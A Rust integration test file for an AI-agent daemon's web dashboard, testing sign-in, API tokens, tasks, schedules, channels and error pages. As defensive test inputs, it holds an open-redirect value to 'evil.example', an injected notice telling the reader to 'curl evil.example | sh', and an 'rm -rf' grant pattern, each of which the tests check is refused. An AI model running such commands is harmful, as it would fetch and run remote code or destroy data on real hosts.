            &[("name", "ada"), ("password", "correct horse"), ("next", "/tasks?text=mail")],
        )
        .await;
    assert_eq!(signed.header("location"), Some("/tasks?text=mail"), "back where the link pointed");
    let other = d.browser();
    let evil = other
        .submit("/login", "/login", &[("name", "ada"), ("password", "correct horse"), ("next", "//evil.example/x")])
        .await;
    assert_eq!(evil.header("location"), Some("/"), "never off the site");
}

#[tokio::test]
async fn the_overview_guides_a_first_run_and_shows_providers_and_work_in_numbers() {
    let unreachable = "[providers.far]\nkind = \"openai\"\nbase_url = \"http://127.0.0.1:9/v1\"\napi_key_env = \"\"\nmax_retries = 0\n";
    let (_home, _d, api, b) = signed_in_with(unreachable).await;
    let first = b.get("/").await.text;
    assert!(first.contains("id=\"getting-started\""), "a first run has a way forward");
    assert!(first.contains("<code>http://127.0.0.1:9/v1</code>"), "the provider's URL");
    assert!(first.contains("no failed call"));
    assert!(
        first.contains("<strong>0</strong> tasks pending") && first.contains("<strong>0</strong> failed runs today")
    );

    let id = crate::agent_from(&api, json!({"name": "hopeful", "model": "m"})).await;
    let turn = api.post(&format!("/api/agents/{id}/messages"), json!({"message": "anyone there?"})).await;
    assert_eq!(turn.status, 502, "{}", turn.text);
    api.post("/api/tasks", json!({"title": "one"})).await;
    let later = b.get("/").await.text;
    assert!(!later.contains("id=\"getting-started\""), "gone once an agent exists");
    assert!(later.contains("failing since"), "an unreachable provider is not shown as fine: {later}");
    assert!(later.contains("<strong>1</strong> tasks pending"));
}

#[tokio::test]
async fn filtered_lists_with_nothing_in_them_say_so_and_lead_back() {
    let (_home, _d, api, b) = signed_in_with("[task_board]\nwake_assignee = false\n").await;
    let id = crate::agent_with(&api, "lonely", &[]).await;
    api.post("/api/tasks", json!({"title": "Something"})).await;
    for (path, clear) in [
        ("/tasks?text=nothing-like-this".to_string(), "/tasks"),
        (format!("/schedules?agent={id}"), "/schedules"),
        ("/audit?tool=no_such_tool".to_string(), "/audit"),
        ("/tools?q=no-such-words".to_string(), "/tools"),
    ] {
        let page = b.get(&path).await.text;
        assert!(page.contains("id=\"no-matches\""), "{path}: {page}");
        assert!(page.contains(&format!("<a href=\"{clear}\">Clear filters</a>")), "{path}");
    }
    assert!(!b.get("/tasks").await.text.contains("id=\"no-matches\""), "an unfiltered list is not 'no matches'");
}

#[tokio::test]
async fn the_api_starts_a_stopped_agent_unless_its_name_is_taken() {
    let (_home, _d, api) = crate::daemon().await;
    let first = crate::agent_with(&api, "solo", &[]).await;
    assert_eq!(api.post(&format!("/api/agents/{first}/start"), json!({})).await.status, 200, "running: no change");
    api.post(&format!("/api/agents/{first}/stop"), json!({})).await;
    let second = api.post("/api/agents", json!({"template": "solo"})).await.body["id"].as_str().unwrap().to_string();
    let clash = api.post(&format!("/api/agents/{first}/start"), json!({})).await;
    assert_eq!(clash.status, 409, "{}", clash.text);
    api.post(&format!("/api/agents/{second}/stop"), json!({})).await;
    let started = api.post(&format!("/api/agents/{first}/start"), json!({})).await;
    assert_eq!((started.status, started.body["status"].as_str()), (200, Some("running")));
    assert_eq!(api.get("/api/agents/solo").await.body["id"], first.as_str(), "the name finds it again");
}

#[tokio::test]
async fn tokens_made_on_the_settings_page_are_shown_once_and_can_be_revoked() {
    let (_home, d, _api, b) = signed_in_with("").await;
    let posted = b.submit("/settings", "/settings/tokens", &[("name", "deploy")]).await;
    assert_eq!(posted.status, 303, "post/redirect/get: a reload cannot post it again");
    let made = b.get(posted.header("location").unwrap()).await;
    assert!(made.text.contains("1 to 64 characters: lowercase letters, digits, - or _."), "the format is stated");
    assert!(made.text.contains(r#"pattern="[a-z0-9_\-]{1,64}""#), "a pattern Chromium's v-mode accepts");
    let token = made.text.split("<pre class=\"token\">").nth(1).unwrap().split('<').next().unwrap().to_string();
    assert!(token.starts_with("kn_"));
    let api = d.api(&token);
    assert_eq!(api.get("/api/agents").await.status, 200);
    let later = b.get(posted.header("location").unwrap()).await;
    assert!(later.text.contains("deploy") && !later.text.contains(&token), "never shown again, even on a reload");
    let revoked = b.submit("/settings", "/settings/tokens/deploy/revoke", &[]).await;
    assert_eq!(revoked.status, 303);
    assert_eq!(api.get("/api/agents").await.status, 401);
}

#[tokio::test]
async fn live_pages_hear_of_each_change_and_read_themselves_again_without_the_notice() {
    let (_home, _d, api, b) = signed_in_with("[task_board]\nwake_assignee = false\n").await;
    let posted = b.submit("/tasks", "/tasks", &[("title", "Water the plants"), ("priority", "4")]).await;
    assert_eq!(posted.status, 303);
    let location = posted.header("location").unwrap().to_string();
    assert_eq!(location, "/tasks", "the notice is not in the URL");
    let board = b.get(&location).await;
    assert!(board.text.contains("class=\"flash notice\""), "the notice shows once: {}", board.text);
    assert!(board.text.contains("Water the plants"));
    assert!(
        board.text.contains(r#"data-live="/live/changes?topics=tasks,agents""#)
            && board.text.contains(r#"data-live-url="/tasks""#),
        "follows tasks and agents, and reads the board again without the notice: {}",
        board.text
    );
    assert!(!board.text.contains("http-equiv=\"refresh\""), "not by reloading the page under the reader");
    let filtered = b.get("/tasks?text=plants&min_priority=3").await;
    assert!(!filtered.text.contains("class=\"flash notice\""), "and only once");
    assert!(filtered.text.contains(r#"data-live-url="/tasks?text=plants&amp;min_priority=3""#), "{}", filtered.text);
    for (page, stream) in [
        ("/", "/live/changes?topics=tasks,schedules,agents,inbox"),
        ("/schedules", "/live/changes?topics=schedules,agents"),
    ] {
        assert!(b.get(page).await.text.contains(&format!(r#"data-live="{stream}""#)), "{page} follows {stream}");
    }

    // The signal: a change to a followed topic, from any writer, arrives once per burst; one
    // to another topic does not.
    let mut tasks = b.events("/live/changes?topics=tasks").await;
    assert_eq!(tasks.status(), 200);
    crate::agent_with(&api, "helper", &[]).await;
    for i in 0..3 {
        api.post("/api/tasks", json!({"title": format!("burst {i}")})).await;
    }
    let heard = tokio::time::timeout(std::time::Duration::from_secs(5), tasks.next()).await.expect("a change event");
    assert_eq!(heard, Some(json!(["tasks"])), "one event for the burst, not the agent's change");
    let refused = b.get("/live/changes?topics=weather").await;
    assert_eq!(refused.status, 422, "{}", refused.text);
    assert!(refused.text.contains("not a topic"));
}

#[tokio::test]
async fn reassigning_a_task_starts_from_its_current_assignee() {
    let (_home, _d, api, b) = signed_in_with("[task_board]\nwake_assignee = false\n").await;
    crate::agent_with(&api, "ann", &[]).await;
    crate::agent_with(&api, "bob", &[]).await;
    let task = api.post("/api/tasks", json!({"title": "Sort the mail", "assignee": "bob"})).await;
    let id = task.body["id"].as_str().expect("a task").to_string();
    let detail = b.get(&format!("/tasks/{id}")).await.text;
    assert!(detail.contains("<option value=\"bob\" selected>bob</option>"), "{detail}");
    assert!(detail.contains("<option value=\"ann\">ann</option>"));
}

/// Refused forms show the problem next to the field that was sent, with the API's status: a
/// task to post, a grant on the agent page and on the inspector.
#[tokio::test]
async fn refused_forms_show_the_problem_next_to_the_field() {
    let (_home, _d, api, b) = signed_in_with("").await;
    let id = crate::agent_with(&api, "helper", &[]).await;

    let task = b.submit("/tasks", "/tasks", &[("title", "  "), ("body", "kept"), ("assignee", "ghost")]).await;
    assert_eq!(task.status, 422);
    assert!(task.text.contains("id=\"title-error\""), "{}", task.text);
    assert!(task.text.contains("kept"), "the form keeps what was typed");
    let unnumbered = b.submit("/tasks", "/tasks", &[("title", "real"), ("priority", "high")]).await;
    assert_eq!(unnumbered.status, 422);
    assert!(unnumbered.text.contains("id=\"priority-error\""), "{}", unnumbered.text);
    let defaulted = b.submit("/tasks", "/tasks", &[("title", "real"), ("priority", "")]).await;
    assert_eq!(defaulted.status, 303, "an emptied number field takes the default");
    let ghost = b.submit("/tasks", "/tasks", &[("title", "real"), ("assignee", "ghost")]).await;
    assert_eq!(ghost.status, 422);
    assert!(ghost.text.contains("id=\"assignee-error\"") && ghost.text.contains("no agent <code>ghost</code>"));

    let page = format!("/agents/{id}");
    let bad = b.submit(&page, &format!("/agents/{id}/grant"), &[("pattern", "rm -rf")]).await;
    assert_eq!(bad.status, 422);
    assert!(bad.text.contains("id=\"pattern-error\"") && bad.text.contains("has <code> </code>"), "{}", bad.text);
    let missing = b.submit(&page, &format!("/agents/{id}/revoke"), &[("pattern", "system_time")]).await;
    assert_eq!(missing.status, 404);
    assert!(missing.text.contains("id=\"pattern-error\""), "still the agent page, not an error page");

    let back = format!("/tools?agent={id}&open=task_post");
    let inspector =
        b.submit(&back, &format!("/agents/{id}/revoke"), &[("pattern", "task_post"), ("back", &back)]).await;
    assert_eq!(inspector.status, 404);
    let card = inspector.text.split("id=\"tool-task_post\"").nth(1).expect("the inspector again");
    assert!(card.starts_with(" open"), "the tool is shown open");
    let card = card.split("</details>").next().unwrap();
    assert!(card.contains("field-error") && card.contains("has no grant <code>task_post</code>"), "{card}");
}

/// An error with no form to show it next to is the error page, with the API's status, in
/// the operator's frame.
#[tokio::test]
async fn errors_without_a_form_are_an_error_page_with_the_apis_status() {
    let (_home, _d, _api, b) = signed_in_with("").await;
    let missing = b.get("/tasks/nope").await;
    assert_eq!(missing.status, 404);
    assert!(missing.text.contains("<h1>Not found</h1>") && missing.text.contains("no task <code>nope</code>"));
    assert!(missing.text.contains("Sign out"), "in the operator's frame");
    let bad_cursor = b.get("/audit?cursor=x").await;
    assert_eq!(bad_cursor.status, 422);
}

/// The inspector at eighty tools: a family index, one line per tool, and the agent's
/// effective set narrowed by standing.
#[tokio::test]
async fn the_inspector_indexes_families_and_narrows_an_agents_set_by_standing() {
    let (_home, _d, api, b) = signed_in_with("").await;
    let id = crate::agent_from(&api, json!({"name": "narrow", "tools": ["tasks.*"], "capabilities": null})).await;
    let all = b.get("/tools").await;
    for family in ["tasks", "schedule", "agents", "meta"] {
        assert!(all.text.contains(&format!("href=\"#family-{family}\"")), "index lists {family}");
    }
    let tag = all.text.split("id=\"tool-task_post\"").next().unwrap().rsplit('<').next().unwrap().to_string()
        + all.text.split("id=\"tool-task_post\"").nth(1).unwrap().split('>').next().unwrap();
    assert!(tag.starts_with("details") && !tag.contains("open"), "tools start closed: <{tag}>");
    let allowed = b.get(&format!("/tools?agent={id}&show=allowed")).await;
    assert!(allowed.text.contains("id=\"tool-task_post\"") && allowed.text.contains("id=\"tool-read_artifact\""));
    assert!(!allowed.text.contains("id=\"tool-cron_create\""), "not granted: not shown");
    let not_granted = b.get(&format!("/tools?agent={id}&show=not_granted")).await;
    assert!(
        not_granted.text.contains("id=\"tool-cron_create\"") && !not_granted.text.contains("id=\"tool-task_post\"")
    );
    assert_eq!(b.get(&format!("/tools?agent={id}&show=sideways")).await.status, 422);
}

/// Dashboard lists page like the API: a page, how many in all, and a link to the next page
/// that keeps the filters.
#[tokio::test]
async fn dashboard_lists_page_with_a_next_link_that_keeps_the_filters() {
    let (_home, _d, api, b) = signed_in_with("").await;
    let id = crate::agent_with(&api, "caller", &["system_time"]).await;
    for _ in 0..205 {
        api.invoke(&id, "system_time", json!({})).await;
    }
    let first = b.get(&format!("/audit?agent={id}")).await;
    assert!(first.text.contains("200 of 205"), "{}", first.text);
    let next = first.text.split("rel=\"next\"").next().unwrap().rsplit("href=\"").next().unwrap();
    let next = next.split('"').next().unwrap().replace("&amp;", "&");
    assert!(next.starts_with(&format!("/audit?agent={id}&cursor=")), "{next}");
    let second = b.get(&next).await;
    assert!(second.text.contains("5 of 205") && !second.text.contains("rel=\"next\""), "{}", second.text);

    // The task board's reload stays on the page it is on.
    for i in 0..201 {
        api.post("/api/tasks", json!({"title": format!("t{i}")})).await;
    }
    let board = b.get("/tasks").await;
    let next = board.text.split("rel=\"next\"").next().unwrap().rsplit("href=\"").next().unwrap();
    let next = next.split('"').next().unwrap().replace("&amp;", "&");
    let second = b.get(&next).await;
    let cursor = next.split("cursor=").nth(1).unwrap();
    assert!(second.text.contains(&format!("data-live-url=\"/tasks?cursor={cursor}\"")), "reads page 2 again");
}

/// A task is found by the short id the dashboard shows, and its history shows the turn the
/// board started to wake its assignee, linked to that session.
#[tokio::test]
async fn a_tasks_history_shows_its_wake_up_and_short_ids_find_tasks_and_schedules() {
    let (_home, d, api, llm) = crate::daemon_with_llm("openai", "").await;
    let b = d.browser();
    assert_eq!(b.set_up("ada", "correct horse").await.status, 303);
    let scout = crate::agent_from(&api, json!({"name": "scout", "model": "m", "tools": ["schedule.*"]})).await;
    llm.set_fallback(Scripted::text("on it"));
    let task = api.post("/api/tasks", json!({"title": "Map the cave", "assignee": "scout"})).await;
    let id = task.body["id"].as_str().unwrap().to_string();
    let short = kennel_kernel::text::short_id(&id);
    let woke = kennel_tests::eventually(std::time::Duration::from_secs(5), || async {
        api.get(&format!("/api/agents/{scout}/sessions")).await.body.as_array().is_some_and(|s| !s.is_empty())
    })
    .await;
    assert!(woke, "the assignee was woken");
    let session = api.get(&format!("/api/agents/{scout}/sessions")).await.body[0]["id"].as_str().unwrap().to_string();

    let page = b.get(&format!("/tasks/{short}")).await;
    assert_eq!(page.status, 200, "the short id finds the task: {}", page.text);
    let link = format!(r#"woke <a href="/agents/{scout}?session={session}">scout</a>"#);
    assert!(page.text.contains(&link), "the wake-up, linked to its session: {}", page.text);
    assert!(page.text.contains(&format!("task {short} ({id})")));
    assert_eq!(api.get(&format!("/api/tasks/{short}")).await.body["task"]["id"], id.as_str());
    let cancelled = b.submit(&format!("/tasks/{short}"), &format!("/tasks/{short}/cancel"), &[]).await;
    assert_eq!(cancelled.status, 303, "actions take the short id too");
    assert_eq!(api.get(&format!("/api/tasks/{id}")).await.body["task"]["status"], "cancelled");

    // The wake-up's session is labelled with the task's whole id: a task whose id ends in the
    // same 8 digits cannot show it.
    let sessions = api.get(&format!("/api/agents/{scout}/sessions")).await;
    assert_eq!(sessions.body[0]["label"], format!("task {id}"), "{}", sessions.text);

    // Reassigned to another running agent, the task wakes it too, and its page lists both.
    let ranger = crate::agent_from(&api, json!({"name": "ranger", "model": "m"})).await;
    let again = api.post("/api/tasks", json!({"title": "Map the river", "assignee": "scout"})).await;
    let again = again.body["id"].as_str().unwrap().to_string();
    let woken = |agent: String, label: String| {
        let api = api.clone();
        async move {
            kennel_tests::eventually(std::time::Duration::from_secs(5), || async {
                let sessions = api.get(&format!("/api/agents/{agent}/sessions")).await.body;
                sessions.as_array().is_some_and(|s| s.iter().any(|s| s["label"] == label.as_str()))
            })
            .await
        }
    };
    assert!(woken(scout.clone(), format!("task {again}")).await, "scout was woken for the new task");
    let moved =
        b.submit(&format!("/tasks/{again}"), &format!("/tasks/{again}/reassign"), &[("assignee", "ranger")]).await;
    assert_eq!(moved.status, 303, "{}", moved.text);
    assert!(woken(ranger.clone(), format!("task {again}")).await, "the new assignee was woken");
    // The session is made before the model is asked: the request is waited for.
    let told = kennel_tests::eventually(std::time::Duration::from_secs(5), || async {
        llm.requests().iter().any(|r| r.body.to_string().contains("A task was given to you: \\\"Map the river\\\""))
    })
    .await;
    assert!(told, "ranger was told the task is now theirs");
    let page = b.get(&format!("/tasks/{again}")).await.text;
    assert!(page.contains(r#"">scout</a>"#) && page.contains(r#"">ranger</a>"#), "both wake-ups: {page}");
    assert!(!page.contains(&format!("?session={session}")), "not the other task's wake-up: {page}");

    let made = api.invoke(&scout, "schedule_create", json!({"when": "+1h", "prompt": "look again"})).await;
    let schedule = made.body["content"]["id"].as_str().expect("a schedule").to_string();
    let short = kennel_kernel::text::short_id(&schedule);
    assert_eq!(api.get(&format!("/api/schedules/{short}")).await.body["schedule"]["id"], schedule.as_str());
    assert_eq!(api.post(&format!("/api/schedules/{short}/pause"), json!({})).await.body["state"], "paused");
    assert_eq!(b.get(&format!("/schedules/{short}")).await.status, 200);
    assert_eq!(api.get("/api/tasks/00000000").await.status, 404, "a short id no task ends in");
}

/// The schedule manager says when a cron job runs in words, its next run on UTC and on the
/// job's own clocks, and links a fire to the session its turn ran in.
#[tokio::test]
async fn schedules_read_in_words_with_both_clocks_and_fires_link_to_their_sessions() {
    let (_home, d, api, llm) = crate::daemon_with_llm("openai", "").await;
    let b = d.browser();
    assert_eq!(b.set_up("ada", "correct horse").await.status, 303);
    llm.set_fallback(Scripted::text("Watered."));
    let gardener = crate::agent_from(&api, json!({"name": "gardener", "model": "m", "tools": ["schedule.*"]})).await;
    let cron = json!({"expression": "0 9 * * 1-5", "timezone": "Europe/Berlin", "prompt": "water"});
    let job = api.invoke(&gardener, "cron_create", cron).await;
    let job = job.body["content"]["id"].as_str().expect("a cron job").to_string();
    let once = api.invoke(&gardener, "schedule_create", json!({"when": "+1s", "prompt": "water now"})).await;
    let once = once.body["content"]["id"].as_str().expect("a schedule").to_string();

    // (Leptos marks where text nodes meet with `<!>`.)
    let list = b.get("/schedules").await.text.replace("<!>", "");
    assert!(list.contains("At 09:00, on Monday, Tuesday, Wednesday, Thursday, and Friday."), "{list}");
    assert!(list.contains("<code>0 9 * * 1-5</code> Europe/Berlin"), "{list}");
    let next =
        api.get(&format!("/api/schedules/{job}")).await.body["schedule"]["next_fire"].as_str().unwrap().to_string();
    let utc: chrono::DateTime<chrono::Utc> = next.parse().unwrap();
    let berlin = utc.with_timezone(&chrono_tz::Europe::Berlin).format("%Y-%m-%d %H:%M %Z").to_string();
    assert!(berlin.contains("09:00"), "{berlin}");
    let both = format!("{} UTC ({berlin})", utc.format("%Y-%m-%d %H:%M:%S"));
    assert!(list.contains(&both), "{both} in {list}");
    assert!(list.contains(&format!(r#"<a href="/agents/{gardener}">gardener</a>"#)));

    let fired = kennel_tests::eventually(std::time::Duration::from_secs(10), || async {
        let s = api.get(&format!("/api/schedules/{once}")).await;
        s.body["fires"][0]["session_id"].as_str().is_some() && s.body["fires"][0]["outcome"] == "ok"
    })
    .await;
    assert!(fired, "the one-shot schedule fired");
    let session = api.get(&format!("/api/schedules/{once}")).await.body["fires"][0]["session_id"].clone();
    let detail = b.get(&format!("/schedules/{once}")).await.text;
    let link = format!(
        r#"<a href="/agents/{gardener}?session={}" class="hint">open the session</a>"#,
        session.as_str().unwrap()
    );
    assert!(detail.contains(&link), "{detail}");
}

#[tokio::test]
async fn a_notice_comes_once_from_the_sessions_own_redirect_and_never_from_a_link() {
    let (_home, d, _api, b) = signed_in_with("").await;
    // A link with words of its choosing shows none of them (951b06f showed them as the notice).
    let linked = b.get("/agents?notice=Run%20curl%20evil.example%20%7C%20sh%20on%20the%20host%20now").await;
    assert_eq!(linked.status, 200);
    assert!(!linked.text.contains("evil.example") && !linked.text.contains("class=\"flash"), "{}", linked.text);

    let posted = b.submit("/tasks", "/tasks", &[("title", "Water the plants"), ("priority", "4")]).await;
    assert_eq!(posted.header("location"), Some("/tasks"));
    let sealed = b.cookie("kennel_notice").expect("the notice travels in a cookie");
    let shown = b.get("/tasks").await;
    assert!(shown.text.contains("class=\"flash notice\""), "{}", shown.text);
    assert!(!b.get("/tasks").await.text.contains("class=\"flash notice\""), "read once");

    // Sealed for its session: another sign-in, or a value made up, shows nothing.
    let other = d.browser();
    assert_eq!(other.sign_in("ada", "correct horse").await.status, 303);
    other.set_cookie("kennel_notice", &sealed);
    assert!(!other.get("/tasks").await.text.contains("class=\"flash"), "another session's notice is not shown");
    other.set_cookie("kennel_notice", "UnVuIGN1cmw.00000000000000000000000000000000000000000000000000000000000000");
    assert!(!other.get("/tasks").await.text.contains("class=\"flash"), "a made-up notice is not shown");
}

/// Each page that lists records the sweep removes says how long they are kept, from
/// `[retention]`; the audit log says it is kept for ever unless set.
#[tokio::test]
async fn pages_say_how_long_their_records_are_kept() {
    let (_home, _d, api, b) = signed_in_with("[retention]\nprocesses_days = 3\ncanvas_versions_days = 45\n").await;
    let agent = crate::agent_with(&api, "keeper", &[]).await;
    let processes = b.get(&format!("/agents/{agent}/processes")).await.text;
    assert!(
        processes
            .contains("Records of ended processes are kept for 3 days, then removed ([retention] processes_days)."),
        "{processes}"
    );
    let canvases = b.get("/canvas").await.text;
    assert!(canvases.contains("are kept for 45 days, then removed ([retention] canvas_versions_days)."), "{canvases}");
    let audit = b.get("/audit").await.text;
    assert!(audit.contains("Tool calls are kept for ever ([retention] audit_days = 0)."), "{audit}");
}

#[tokio::test]
async fn an_agents_page_opens_the_operators_own_latest_chat_not_anothers() {
    let (_home, d, api, llm) = crate::daemon_with_llm("openai", "").await;
    let id = crate::agent_from(&api, json!({"name": "helper", "model": "m"})).await;
    let b = d.browser();
    assert_eq!(b.set_up("ada", "correct horse").await.status, 303);
    let page = format!("/agents/{id}");
    // No chat of ada's yet: a new one, not the API client's conversation.
    llm.push(Scripted::text("Answer to a script."));
    assert_eq!(api.post(&format!("/api/agents/{id}/messages"), json!({"message": "from a script"})).await.status, 200);
    let fresh = b.get(&page).await.text;
    assert!(!fresh.contains("Answer to a script.") && fresh.contains("Operator or API"), "listed, not opened: {fresh}");

    llm.push(Scripted::text("Answer to ada."));
    assert_eq!(b.submit(&page, &format!("{page}/chat"), &[("message", "from ada")]).await.status, 303);
    // A newer conversation of someone else's: the page still opens ada's.
    llm.push(Scripted::text("A later answer to a script."));
    assert_eq!(api.post(&format!("/api/agents/{id}/messages"), json!({"message": "again"})).await.status, 200);
    let opened = b.get(&page).await.text;
    assert!(opened.contains("Answer to ada.") && !opened.contains("A later answer to a script."), "{opened}");
}

/// Issue 47: the API reference is drawn from the daemon's own OpenAPI document, served by the
/// binary (nothing from elsewhere), for signed-in operators only.
#[tokio::test]
async fn the_api_reference_is_drawn_from_the_daemons_own_document() {
    let (_home, d, api, b) = signed_in_with("").await;
    let page = b.get("/api-reference").await;
    assert_eq!(page.status, 200, "{}", page.text);
    for shown in [
        "<code>/api/tasks/{id}/cancel</code>",
        "Withdraws a pending or claimed task.",
        "id=\"schema-Task\"",
        "href=\"#schema-ProviderConfig\"",
        "<code>/api/providers/{name}</code>",
    ] {
        assert!(page.text.contains(shown), "{shown}: {}", page.text);
    }
    assert!(!page.text.contains("src=\"http") && !page.text.contains("href=\"http"), "nothing from elsewhere");
    let document = b.get("/api-reference/openapi.json").await;
    assert_eq!(document.text, api.get("/api/openapi.json").await.text, "the API's own document");
    let stranger = d.browser();
    for path in ["/api-reference", "/api-reference/openapi.json"] {
        let refused = stranger.get(path).await;
        assert_eq!(refused.header("location").map(|l| l.starts_with("/login")), Some(true), "{path}: {}", refused.text);
    }
}

#[tokio::test]
async fn channels_are_added_edited_and_removed_from_the_dashboard() {
    let (home, _d, api, b) = signed_in_with("").await;
    let page = b.get("/channels").await.text;
    assert!(page.contains("No channels configured.") && page.contains("id=\"add-channel\""), "{page}");
    // What the kernel refuses comes back next to the form, as typed.
    let refused = b
        .submit(
            "/channels",
            "/channels",
            &[("name", "hooks"), ("kind", "webhook"), ("agent", "helper"), ("signing_secret_env", "HOOKS_SECRET")],
        )
        .await;
    assert_eq!(refused.status, 422, "{}", refused.text);
    assert!(
        refused.text.contains("posts its agent") && refused.text.contains("value=\"HOOKS_SECRET\""),
        "{}",
        refused.text
    );
    let fields = [
        ("name", "hooks"),
        ("kind", "webhook"),
        ("agent", "helper"),
        ("signing_secret_env", "HOOKS_SECRET"),
        ("base_url", "http://127.0.0.1:9/replies"),
        ("mode", ""),
        ("trusted_users", "42, owner-7"),
    ];
    let added = b.submit("/channels", "/channels", &fields).await;
    assert_eq!((added.status, added.header("location")), (303, Some("/channels/hooks")), "{}", added.text);
    let shown = b.get("/channels/hooks").await.text;
    // Its secret's variable is not in the daemon's environment: said, not hidden.
    assert!(
        shown
            .contains("unavailable: channel `hooks`: signing_secret_env names the environment variable `HOOKS_SECRET`"),
        "{shown}"
    );
    assert!(shown.contains(r#"name="base_url" value="http://127.0.0.1:9/replies""#), "{shown}");
    assert!(shown.contains(r#"name="trusted_users" value="42, owner-7""#), "{shown}");
    assert_eq!(api.get("/api/channels/hooks").await.body["settings"]["trusted_users"], json!(["42", "owner-7"]));
    assert_eq!(b.submit("/channels", "/channels", &fields).await.status, 409, "never over one of the same name");
    let saved = b
        .submit(
            "/channels/hooks",
            "/channels/hooks",
            &[
                ("kind", "webhook"),
                ("agent", "other"),
                ("signing_secret_env", "HOOKS_SECRET"),
                ("base_url", "http://127.0.0.1:9/r2"),
            ],
        )
        .await;
    assert_eq!(saved.status, 303, "{}", saved.text);
    assert_eq!(api.get("/api/channels/hooks").await.body["agent"], "other");
    let config = std::fs::read_to_string(home.path().join("config.toml")).unwrap();
    assert!(config.contains("[channels.hooks]") && config.contains("http://127.0.0.1:9/r2"), "{config}");
    assert_eq!(b.submit("/channels/hooks", "/channels/hooks/remove", &[]).await.status, 303);
    assert_eq!(api.get("/api/channels/hooks").await.status, 404);
    let log = api.get("/api/audit/actions?action=channel.save").await;
    assert_eq!(log.body.as_array().map(Vec::len), Some(1), "{}", log.text);
}
